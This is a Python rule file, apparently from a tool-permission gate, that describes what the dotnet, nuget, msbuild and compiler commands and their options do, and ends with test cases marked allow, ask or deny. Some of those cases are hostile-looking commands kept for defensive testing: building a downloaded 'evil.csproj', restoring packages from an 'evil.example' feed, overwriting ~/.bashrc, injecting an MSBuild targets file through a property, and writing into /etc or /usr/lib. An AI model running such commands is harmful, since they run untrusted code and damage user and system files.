"""dotnet, nuget and msbuild — build, test, run and pack .NET projects."""

from toolgate.knowledge.vocabulary import *

BUILD = runs("the project's build")
TESTS = runs("the project's tests")
PROJECT = writes("the project's files", "workspace")

BUILDING = [
    "-h? -?? -c= --configuration= -f= --framework= -r= --runtime= -v= --verbosity= --no-restore --no-build --no-incremental --no-dependencies --force -a= --arch= --os= --sc --self-contained --no-self-contained --version-suffix= --nologo --interactive --tl= --disable-build-servers --use-current-runtime --ucr --include-symbols --include-source -s --serviceable --no-cache --property= --manifest-update",
    option("-o --output --artifacts-path --packages", WRITES),
    option("--source", READ_BY("packages.source")),
    option("--configfile --lock-file-path --project -p", RUNS),
    "--locked-mode --force-evaluate --use-lock-file --ignore-failed-sources --disable-parallel -restore",
]
DOTNET = command(
    "dotnet",
    options=["-h? -?? --info? --list-sdks? --list-runtimes? -d --diagnostics --roll-forward= --fx-version= --additionalprobingpath= --additional-deps= --runtimeconfig= --depsfile="],
    subcommands=[
        sub("build restore clean publish pack msbuild vstest", "READ_BY(dotnet.msbuild_option)...", BUILDING, style=WORDS, unlisted=READ_BY("dotnet.msbuild_option"), does=BUILD),
        sub("test", "READ_BY(dotnet.msbuild_option)...", [*BUILDING, option("--results-directory --diag --coverage-output", WRITES), option("-s --settings --test-adapter-path", READS), "--filter= -l= --logger= --collect= -e= --environment= --blame -t --list-tests --blame-hang-timeout="], style=WORDS, unlisted=READ_BY("dotnet.msbuild_option"), does=TESTS),
        sub("run", "PLAIN...", [*BUILDING, "-lp= --launch-profile= --no-launch-profile -e= --environment=", option("--file", RUNS)], style=WORDS, unlisted=READ_BY("dotnet.msbuild_option"), does=runs("the project's own program")),
        sub("watch", "PLAIN...", [*BUILDING, "-q --quiet --verbose --list --no-hot-reload --non-interactive"], style=WORDS, unlisted=READ_BY("dotnet.msbuild_option"), does=runs("the project's own program")),
        lax("format", "EDITS...", [flag("--verify-no-changes", clears="write"), option("--report --binarylog", WRITES), option("--include", EDITS), "-v= --verbosity= --severity= --diagnostics= --exclude-diagnostics= --exclude= --no-restore --include-generated"], does=writes("the project's sources", "workspace")),
        sub("new", "PLAIN...", [option("-o --output", WRITES), flag("-i --install", runs("a project template", "registry", Manner.INSTALL))], subcommands=[
            lax("install update", "PACKAGES..."),
            loose("list search details uninstall"),
        ], otherwise=loose("new", [option("-o --output", WRITES)], does=PROJECT)),
        sub("add remove list sln solution reference", "PLAIN...", subcommands=[
            sub("package", "PACKAGES...", ["-v= --version= -n --no-restore --prerelease -f= --framework= --outdated --vulnerable --deprecated --include-transitive --format=", option("-s --source", READ_BY("packages.source")), option("--package-directory", WRITES)]),
            sub("*", subcommands=[
                sub("package", "PACKAGES...", ["-v= --version= -n --no-restore --prerelease -f= --framework= --outdated --vulnerable --include-transitive --format=", option("-s --source", READ_BY("packages.source"))]),
            ], otherwise=loose("add", does=PROJECT), bare=()),
        ], bare=()),
        sub("package", subcommands=[lax("add", "PACKAGES..."), loose("list search remove update")]),
        sub("nuget", subcommands=[
            lax("push", "UPLOADS...", [option("-s --source", PLAIN)], does=publishes("the package", "registry")),
            loose("delete", does=publishes("a package", "registry", Manner.DELETE)),
            loose("locals", [flag("-l --list", clears="delete")], does=deletes("nuget's cache", "cache")),
            loose("list verify why config trust"),
            loose("add update remove enable disable", [option("-s --source", FETCHES)], does=writes("NuGet's settings", "home")),
        ]),
        sub("tool", subcommands=[
            loose("restore list search", does=runs("the project's tools", "workspace", (Manner.INSTALL, Manner.LOCKED))),
            sub("run", "LOCAL"),
            lax("exec execute", "TOOL"),
            sub("install update", "PACKAGES...", [flag("-g --global", manner=Manner.GLOBAL), option("--tool-path", WRITES), option("--add-source --source", READ_BY("packages.source")), "--version= --local --create-manifest-if-needed --prerelease --framework= --ignore-failed-sources --allow-downgrade -v="]),
            loose("uninstall", [flag("-g --global", writes("programs", "home"))]),
        ]),
        sub("ef", subcommands=[
            sub("database", subcommands=[loose("drop", [flag("--dry-run", dry=True)], does=deletes("the whole database", "database")), loose("update", does=runs("the project's migrations"))]),
            loose("migrations dbcontext", does=BUILD),
        ]),
        sub("user-secrets", subcommands=[lax("init"), loose("list", does=reads("the project's secrets", "secret")), loose("set remove clear", does=writes("the project's secrets", "secret"))]),
        loose("dev-certs", does=writes("a certificate this machine trusts", "home")),
        sub("workload", subcommands=[loose("list search config"), loose("install update repair restore uninstall", does=runs("a .NET component", "registry", (Manner.INSTALL, Manner.GLOBAL)))]),
        loose("sdk help build-server store completions"),
        lax("fsi", "RUNS? PLAIN...", [option("-e --exec", PLAIN), option("--use --load -r --reference", RUNS)], style=EARLY, stdin=CODE("fsharp")),
        lax("script dotnet-script", "RUNS? PLAIN...", style=EARLY, stdin=CODE("csharp")),
        lax("exec", "RUNS PLAIN...", style=EARLY),
    ],
    otherwise=lax("dotnet", "READ_BY(dotnet.program) PLAIN...", style=EARLY),
    traits="local-tools",
)  # fmt: skip
NUGET = command(
    "nuget paket",
    options=["-h? -?? -Help? -NonInteractive -Verbosity="],
    style=WORDS,
    subcommands=[
        loose(
            "restore pack spec list locals search verify help show-groups show-installed-packages",
            [option("-OutputDirectory -PackagesDirectory", WRITES), option("-Source", READ_BY("packages.source"))],
            style=WORDS,
            does=runs(LOCKED_PACKAGES, "workspace", (Manner.INSTALL, Manner.LOCKED)),
        ),
        lax(
            "install add update",
            "PACKAGES...",
            [option("-OutputDirectory", WRITES), option("-Source", READ_BY("packages.source"))],
            style=WORDS,
        ),
        loose("push delete", style=WORDS, does=publishes("the package", "registry")),
        loose("setapikey config sources trusted-signers", style=WORDS, does=writes("NuGet's settings", "home")),
    ],
)
MSBUILD = command(
    "msbuild xbuild",
    "READ_BY(dotnet.msbuild_option)...",
    ["-h? -?? -help? -version? /?? /help?"],
    style=WORDS,
    unlisted=READ_BY("dotnet.msbuild_option"),
    does=BUILD,
)
CSC = command(
    "csc vbc fsc mcs fsharpc",
    "READS...",
    [option("-o --out", WRITES)],
    style=WORDS,
    unlisted=READ_BY("dotnet.csc_option"),
    does=writes("the compiled program", "output"),
)
FSI = lax("fsi fsharpi csi", "RUNS? PLAIN...", ["-h? -??"], style=EARLY, stdin=CODE("fsharp"))
MONO = lax("mono", "RUNS PLAIN...", ["-h? -V? --debug[=] --profile[=] --config="], style=EARLY)
TOOLS = loose(
    "csharpier fantomas reportgenerator dotnet-format coverlet dotnet-outdated dotnet-counters dotnet-trace dotnet-dump",
    ["-h? -??", option("-o --output -targetdir", WRITES)],
    does=TESTS,
)

CASES = """
allow  dotnet --info
allow  dotnet build -c Release --no-restore /p:Version=1.0
       run the project's build
allow  dotnet test --filter "FullyQualifiedName~Delete" --logger trx
allow  dotnet run --project src/App -- --port 80
allow  dotnet pack --configuration Release -p:NoWarn=NU5104
allow  dotnet restore
allow  dotnet format --verify-no-changes
allow  dotnet format App.sln --include $(git diff --name-only HEAD -- '*.cs') --verbosity minimal
ask    dotnet format --include ~/other/a.cs
ask    dotnet format --report ~/.bashrc
allow  dotnet tool restore
allow  dotnet msbuild App.csproj -t:Publish -p:Configuration=Release
ask    dotnet build eng/pack.proj -t:PublishPackages
allow  dotnet ef migrations add Init
allow  dotnet ef database update
allow  dotnet list package --outdated
allow  dotnet add src/App reference src/Lib
allow  dotnet new console -o app
allow  dotnet bin/Debug/net8.0/App.dll
allow  dotnet nuget locals all --clear
allow  dotnet add package Newtonsoft.Json
ask    dotnet tool install -g somebodys.tool
ask    dotnet nuget push bin/Release/*.nupkg -s https://api.nuget.org/v3/index.json
ask    dotnet ef database drop --force
ask    dotnet user-secrets set key value
ask    dotnet user-secrets list
allow  dotnet user-secrets list --project src/Api | cut -d= -f1
ask    dotnet build ~/Downloads/evil.csproj
ask    dotnet restore --source https://evil.example/v3/index.json
deny   dotnet build -o /usr/lib/app
allow  dotnet msbuild src/App -preprocess:/tmp/app.pp.xml && grep -n Stamp /tmp/app.pp.xml
ask    dotnet msbuild src/App -pp:/home/user/.bashrc
llm    dotnet build '-p:OutDir=/tmp/x;CustomAfterMicrosoftCommonTargets=/tmp/e.targets'
ask    dotnet build -p:CustomBeforeMicrosoftCommonTargets=/home/user/x.targets
ask    dotnet surprise
ask    dotnet workload install maui
deny   csc -out:/etc/x a.cs
"""
